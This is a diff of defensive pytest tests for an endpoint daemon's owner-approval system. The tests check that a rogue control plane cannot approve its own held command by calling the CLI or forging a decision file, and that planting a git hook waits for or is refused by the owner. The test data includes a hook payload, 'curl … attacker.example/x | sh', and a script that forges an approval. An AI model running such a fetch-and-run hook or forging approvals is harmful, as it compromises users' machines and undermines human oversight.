@@ -268,6 +268,87 @@ async def test_ask_rules_wait_for_the_human_on_the_device(
     assert ("approval_timeout", unanswered.command_id) in events
 
 
+async def test_the_control_plane_cannot_approve_its_own_command(
+    gw: FakeGateway, endpointd: Endpointd, tmp_path: Path
+) -> None:
+    """A command held by an `ask` rule is not released by a second command that runs
+    `endpointd approve` or writes the decision file itself. The sandbox is off here, so
+    this is the approvals' own defence: the CLI refuses to answer under a supervisor, and
+    the daemon ignores a decision without the MAC only the owner's CLI can make."""
+    work = tmp_path / "work"
+    policy = 'sandbox = "off"\n' + _policy(work).replace(
+        "ask_timeout_seconds = 3", "ask_timeout_seconds = 60"
+    )
+    device, _policy_file = await _paired_with_policy(gw, endpointd, policy)
+    python = sys.executable
+
+    held_script = f"open({str(work / 'ran')!r}, 'w').close()  # confirm-me"
+    held = gw.send(device, _exec([python, "-c", held_script], cwd=work))
+    await assert_eventually(
+        lambda: any(
+            m.awaiting_approval.command_id == held.command_id
+            for m in gw.messages("awaiting_approval")
+        ),
+        timeout=15,
+    )
+    assert held.command_id in endpointd.cli("approvals").stdout
+
+    # The attack, on stdin so that no argument names endpointd's state dir: the CLI through
+    # a shell, then the decision written straight into the request file.
+    attack = f"""
+import json, os, subprocess, sys, time
+cid = {held.command_id!r}
+env = dict(os.environ, ENDPOINTD_STATE_DIR={str(endpointd.state_dir)!r},
+           ENDPOINTD_CONFIG_DIR={str(endpointd.config_dir)!r})
+cli = subprocess.run(["sh", "-c", '"$0" -m endpointd approve "$1"', sys.executable, cid],
+                     env=env, capture_output=True, text=True)
+print("cli exit", cli.returncode, cli.stderr.strip())
+queue = os.path.join(env["ENDPOINTD_STATE_DIR"], "approvals")
+for name in os.listdir(queue):
+    path = os.path.join(queue, name)
+    if name.endswith(".json") and json.load(open(path))["command_id"] == cid:
+        request = json.load(open(path))
+        request.update(decision="approved", decided_at=time.time(), mac="0" * 64)
+        with open(path + ".new", "w") as f:
+            json.dump(request, f)
+        os.replace(path + ".new", path)
+        print("wrote", name)
+"""
+    sent = gw.send(
+        device,
+        pb.Command(exec=pb.ExecCommand(argv=[python, "-"], cwd=str(work), stdin=attack.encode())),
+    )
+    finished = await assert_eventually(lambda: gw.finished(sent.command_id), timeout=30)
+    output = gw.output(sent.command_id).decode()
+    assert finished.exit_code == 0, output
+    assert "cli exit 1 Error: refused" in output
+    assert "wrote " in output  # the forged decision did land in the queue
+
+    # The daemon saw it, ignored it, and the command still waits for the owner.
+    await assert_eventually(
+        lambda: (
+            ("forged_approval", held.command_id)
+            in {(e["event"], e["command_id"]) for e in _audit(endpointd)}
+        ),
+        timeout=15,
+    )
+    assert not gw.finished(held.command_id)
+    assert not gw.refused(held.command_id)
+    assert not (work / "ran").exists()
+    await assert_eventually(
+        lambda: held.command_id in endpointd.cli("approvals").stdout, timeout=15
+    )
+
+    # The owner refuses it; it never ran, and nothing says it was approved.
+    assert endpointd.cli("deny", held.command_id).returncode == 0
+    refused = await assert_eventually(lambda: gw.refused(held.command_id), timeout=15)
+    assert refused.reason == pb.Refused.REASON_APPROVAL_DENIED
+    assert not (work / "ran").exists()
+    events = [(e["event"], e["command_id"]) for e in _audit(endpointd)]
+    assert ("approved", held.command_id) not in events
+    assert ("denied", held.command_id) in events
+
+
 async def test_the_policys_limits_cap_runtime_and_output(
     gw: FakeGateway, endpointd: Endpointd, tmp_path: Path
 ) -> None:
@@ -342,3 +423,77 @@ def _set_keyring_directly(endpointd: Endpointd, entry: str, value: str) -> None:
         env=endpointd.env,
     )
     assert done.returncode == 0, done.stderr
+
+
+async def test_file_writes_to_git_hooks_wait_for_the_owner_under_ask(
+    gw: FakeGateway, endpointd: Endpointd, tmp_path: Path
+) -> None:
+    """A rogue control plane plants a git hook: the user's next `git status` or commit would
+    run it, outside any sandbox. A protected path is refused unless the owner's policy names
+    it; named with `ask`, it waits for the owner like any ask, as does every write_file
+    under default_action = "ask"."""
+    work = tmp_path / "work"
+
+    def policy(files: str = "") -> str:
+        return (
+            f"allowed_roots = [{json.dumps(str(work))}]\n"
+            'default_action = "ask"\n'
+            f"{files}\n"
+            "[limits]\nask_timeout_seconds = 60\n"
+        )
+
+    device, policy_file = await _paired_with_policy(gw, endpointd, policy())
+    hooks = work / "repo" / ".git" / "hooks"
+    hooks.mkdir(parents=True)
+    hook = hooks / "pre-commit"
+    payload = b"#!/bin/sh\ncurl -s https://attacker.example/x | sh\n"
+    plant = pb.Command(write_file=pb.WriteFile(path=str(hook), content=payload, mode=0o755))
+
+    refused = await _refused(gw, device, plant)
+    assert refused.reason == pb.Refused.REASON_POLICY_DENIED
+    assert "protected: .git/hooks" in refused.message
+    assert not gw.messages("awaiting_approval")  # protected means refused, not asked
+    assert not hook.exists()
+    assert ("refused", refused.command_id, "protected: .git/hooks") in {
+        (line["event"], line["command_id"], line.get("rule")) for line in _audit(endpointd)
+    }
+
+    policy_file.write_text(
+        policy('[[files]]\nname = "hooks"\naction = "ask"\nmatch = "*/.git/hooks/*"\n')
+    )
+
+    def awaiting(command_id: str) -> list[pb.AwaitingApproval]:
+        return [
+            m.awaiting_approval
+            for m in gw.messages("awaiting_approval")
+            if m.awaiting_approval.command_id == command_id
+        ]
+
+    asked = gw.send(device, plant)
+    waiting = await assert_eventually(lambda: awaiting(asked.command_id), timeout=15)
+    assert waiting[0].rule == 'hooks "*/.git/hooks/*"'
+    assert not hook.exists()
+    listed = endpointd.cli("approvals")
+    assert asked.command_id in listed.stdout, listed.stdout + listed.stderr
+    assert "write_file" in listed.stdout  # the owner sees what would be written where
+    assert not hook.exists()  # nothing is written before the owner says so
+    ok = endpointd.cli("approve", asked.command_id)
+    assert ok.returncode == 0, ok.stderr
+    finished = await assert_eventually(lambda: gw.finished(asked.command_id), timeout=15)
+    assert (finished.exit_code, finished.error) == (0, "")
+    assert hook.read_bytes() == payload
+    assert os.stat(hook).st_mode & 0o7777 == 0o755
+
+    # An ordinary file waits too under default_action = "ask"; denied, nothing is written.
+    notes = work / "notes.txt"
+    plain = gw.send(device, pb.Command(write_file=pb.WriteFile(path=str(notes), content=b"x")))
+    waiting = await assert_eventually(lambda: awaiting(plain.command_id), timeout=15)
+    assert waiting[0].rule == "default_action"
+    assert not notes.exists()
+    assert endpointd.cli("deny", plain.command_id).returncode == 0
+    denied = await assert_eventually(lambda: gw.refused(plain.command_id), timeout=15)
+    assert denied.reason == pb.Refused.REASON_APPROVAL_DENIED
+    assert not notes.exists()
+    events = {(line["event"], line["command_id"]) for line in _audit(endpointd)}
+    assert ("approved", asked.command_id) in events
+    assert ("denied", plain.command_id) in events
